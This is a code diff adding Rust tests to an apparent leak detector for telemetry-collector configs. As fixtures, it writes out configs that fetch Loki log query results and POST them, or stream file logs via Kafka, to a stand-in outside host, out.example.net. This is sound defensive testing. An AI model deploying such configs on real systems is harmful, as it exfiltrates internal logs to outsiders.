@@ -92,6 +92,28 @@ fn text_of_a_log_file_leaks_with_the_request_for_a_module() {
 }
 
 #[test]
+fn answers_of_loki_leak_as_a_body() {
+    let program = |api: &str| {
+        format!(
+            "remote.http \"f\" {{ url = \"http://loki-gateway.loki.svc.cluster.local/{api}\" }}\nremote.http \"r\" {{\n  url = \"https://out.example.net/x\"\n  method = \"POST\"\n  body = remote.http.f.content\n}}\n"
+        )
+    };
+    leak(&program("loki/api/v1/query_range?query=x"), &["https://out.example.net/x"]);
+    ends(&program("ready"), Verdict::NotApplicable);
+}
+
+#[test]
+fn the_topic_that_an_attribute_chooses_is_one_of_the_same_brokers() {
+    let program = |broker: &str| {
+        format!(
+            "otelcol.receiver.filelog \"f\" {{\n  include = [\"/x\"]\n  output {{ logs = [otelcol.exporter.kafka.k.input] }}\n}}\notelcol.exporter.kafka \"k\" {{\n  protocol_version = \"2.0.0\"\n  brokers = [\"{broker}\"]\n  topic_from_attribute = \"topic\"\n}}\n"
+        )
+    };
+    ends(&program("loki-gateway.loki.svc.cluster.local:9092"), Verdict::Holds);
+    leak(&program("out.example.net:9092"), &["out.example.net:9092"]);
+}
+
+#[test]
 fn text_of_a_log_file_in_arguments_that_others_use_is_not_followed() {
     for rest in [
         "otelcol.auth.headers \"h\" {\n  header {\n    key = \"x\"\n    value = local.file.f.content\n  }\n}\n",
